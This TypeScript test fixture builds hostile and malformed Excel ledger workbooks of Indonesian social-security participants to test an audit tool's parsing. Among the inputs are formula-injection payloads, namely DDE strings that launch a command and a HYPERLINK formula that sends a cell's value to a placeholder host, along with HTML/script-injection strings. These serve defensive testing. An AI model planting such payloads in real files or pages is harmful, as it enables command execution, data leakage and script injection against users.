// Hostile and malformed ledger workbooks (SPEC §7), generated as .xlsx files with exceljs: each case
// says what it plants and what a correct reading of it finds. Run through the command line
// (hostile-cli.test.ts) and through the Excel test double (hostile-double.test.ts).
import * as ExcelJS from "exceljs";
import type { Code } from "../../src/core/messages";
import { makeKpj, makeNik, makeNpp, randomNikSpec, Rng } from "../../src/fixtures/identities";

export const REF_DATE = "2026-11-23";
export const HEADERS = ["NPP", "Nama Perusahaan", "Nama Peserta", "NIK", "Tanggal Lahir", "Jenis Kelamin", "No KPJ", "Tgl Kepesertaan", "Status"];

/** Text that must stay text wherever it is written: Excel would otherwise run it as a formula. */
export const FORMULA_TEXTS = ['=HYPERLINK("http://contoh.invalid/?q="&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"];
export const SCRIPT_TEXTS = ["<script>document.title='DIRETAS'</script>", '<img src=x onerror="document.title=\'DIRETAS\'">', "PT <b>Tebal</b> & Co"];

export interface HostileCase {
  readonly name: string;
  /** What the audit must report: a ledger problem, or the header row, data rows and codes per worksheet row. */
  readonly expect:
    | { readonly problem: "empty" | "noHeader" | "noShape" }
    | { readonly headerRow: number; readonly rows: number; readonly codes?: Readonly<Record<number, readonly Code[]>>; readonly columns?: Readonly<Record<string, string>>; readonly noColumnLeft?: boolean };
  /** The sheet is protected: reading works, writing into it must be refused with a message. */
  readonly protectedSheet?: boolean;
  readonly build: (sheet: ExcelJS.Worksheet) => void | Promise<void>;
}

/** A clean participant row with identities from `seed`. */
export function cleanRow(seed: number): unknown[] {
  const rng = new Rng(seed);
  const spec = randomNikSpec(rng, 2026);
  const birth = new Date(spec.birth * 86_400_000);
  return [makeNpp(rng), "PT Sinar Jaya", `Pekerja ${seed}`, makeNik(spec), birth, spec.gender, makeKpj(rng), new Date(Date.UTC(2024, 0, 2)), "Aktif"];
}

/** Writes rows from (row, column), 1-based; identifiers as text cells formatted "@", dates as dates. */
function put(sheet: ExcelJS.Worksheet, row: number, column: number, rows: readonly (readonly unknown[])[]): void {
  rows.forEach((values, i) => {
    values.forEach((value, j) => {
      if (value === undefined) return;
      const cell = sheet.getCell(row + i, column + j);
      cell.value = value as ExcelJS.CellValue;
      if (value instanceof Date) cell.numFmt = "dd-mm-yyyy";
      else if (typeof value === "string") cell.numFmt = "@";
    });
  });
}

const withRow = (seed: number, column: number, value: unknown) => {
  const row = cleanRow(seed);
  row[column] = value;
  return row;
};

const NAME = 2;
const COMPANY = 1;
const NIK = 3;
const BIRTH = 4;
const KPJ = 6;
const NPP = 0;

export const HOSTILE_CASES: readonly HostileCase[] = [
  {
    name: "formula-looking names and HTML in names and company names",
    expect: { headerRow: 1, rows: FORMULA_TEXTS.length + SCRIPT_TEXTS.length, codes: {} },
    build: (sheet) => {
      const rows = [...FORMULA_TEXTS.map((text, i) => withRow(100 + i, NAME, text)), ...SCRIPT_TEXTS.map((text, i) => withRow(200 + i, COMPANY, text))];
      // Every row under one NPP, so that the odd company names show as NPP_NAME_CONFLICT, not as errors.
      for (const row of rows) row[NPP] = rows[0][NPP];
      put(sheet, 1, 1, [HEADERS, ...rows]);
    },
  },
  {
    name: "merged title and header cells",
    expect: { headerRow: 2, rows: 3, codes: { 5: ["NIK_NOT_DIGITS"] } },
    build: (sheet) => {
      put(sheet, 1, 1, [["Daftar Peserta BPJS Ketenagakerjaan — November 2026"], HEADERS, cleanRow(1), cleanRow(2), withRow(3, NIK, "lihat KTP")]);
      sheet.mergeCells(1, 1, 1, HEADERS.length); // the title across the ledger
      sheet.getCell(2, 10).value = "Catatan";
      sheet.mergeCells(2, 10, 2, 12); // a merged header cell beside the ledger
    },
  },
  {
    name: "header on row 12, starting at column D",
    expect: { headerRow: 12, rows: 3, codes: { 14: ["NIK_AS_NUMBER"] }, columns: { nik: "NIK" } },
    build: (sheet) => {
      put(sheet, 1, 1, [["Laporan"], ["Dicetak 23-11-2026"]]);
      put(sheet, 12, 4, [HEADERS, cleanRow(11), withRow(12, NIK, 3171015708450001), cleanRow(13)]);
    },
  },
  {
    name: "hidden and filtered rows are still audited",
    expect: { headerRow: 1, rows: 4, codes: { 3: ["NIK_LENGTH"], 4: ["KPJ_FORMAT"] } },
    build: (sheet) => {
      put(sheet, 1, 1, [HEADERS, cleanRow(21), withRow(22, NIK, "317101570845"), withRow(23, KPJ, "12345"), cleanRow(24)]);
      sheet.getRow(3).hidden = true;
      sheet.autoFilter = { from: { row: 1, column: 1 }, to: { row: 5, column: HEADERS.length } };
      sheet.getRow(4).hidden = true; // filtered out
    },
  },
  {
    name: "a protected sheet",
    protectedSheet: true,
    expect: { headerRow: 1, rows: 2, codes: {} },
    build: async (sheet) => {
      put(sheet, 1, 1, [HEADERS, cleanRow(31), cleanRow(32)]);
      await sheet.protect("rahasia", { selectLockedCells: true });
    },
  },
  { name: "an empty sheet", expect: { problem: "empty" }, build: () => {} },
  { name: "a sheet of only headers", expect: { headerRow: 1, rows: 0, codes: {} }, build: (sheet) => put(sheet, 1, 1, [HEADERS]) },
  {
    name: "16,384 columns (a value in XFD)",
    expect: { headerRow: 1, rows: 2, codes: {}, noColumnLeft: true },
    build: (sheet) => {
      put(sheet, 1, 1, [HEADERS, cleanRow(41), cleanRow(42)]);
      sheet.getCell(1, 16_384).value = "akhir";
      sheet.getCell(3, 16_384).value = 1;
    },
  },
  {
    name: "duplicate header names: the first column of a name is used",
    expect: { headerRow: 1, rows: 2, codes: { 3: ["NIK_NOT_DIGITS"] }, columns: { nik: "NIK" } },
    build: (sheet) => {
      const rows = [cleanRow(51), withRow(52, NIK, "bukan NIK")];
      put(sheet, 1, 1, [[...HEADERS, "NIK"], ...rows.map((r) => [...r, "salah"])]);
    },
  },
  {
    name: "error cells (#N/A, #REF!) in identifier and date columns",
    expect: { headerRow: 1, rows: 3, codes: { 2: ["NIK_NOT_DIGITS"], 3: ["DATE_UNPARSEABLE"], 4: ["NPP_FORMAT"] } },
    build: (sheet) => {
      put(sheet, 1, 1, [HEADERS, withRow(61, NIK, { error: "#N/A" }), withRow(62, BIRTH, { error: "#REF!" }), withRow(63, NPP, { error: "#VALUE!" })]);
    },
  },
  {
    name: "booleans in identifier columns",
    expect: { headerRow: 1, rows: 2, codes: { 2: ["NIK_NOT_DIGITS"], 3: ["KPJ_FORMAT"] } },
    build: (sheet) => {
      put(sheet, 1, 1, [HEADERS, withRow(71, NIK, true), withRow(72, KPJ, false)]);
    },
  },
];

/** Writes one case as an .xlsx file with the ledger on sheet "Peserta" and a second sheet after it. */
export async function writeHostileWorkbook(c: HostileCase, file: string): Promise<void> {
  const book = new ExcelJS.Workbook();
  book.created = book.modified = new Date(Date.UTC(2026, 10, 23));
  await c.build(book.addWorksheet("Peserta"));
  book.addWorksheet("Catatan").getCell(1, 1).value = "catatan";
  await book.xlsx.writeFile(file);
}
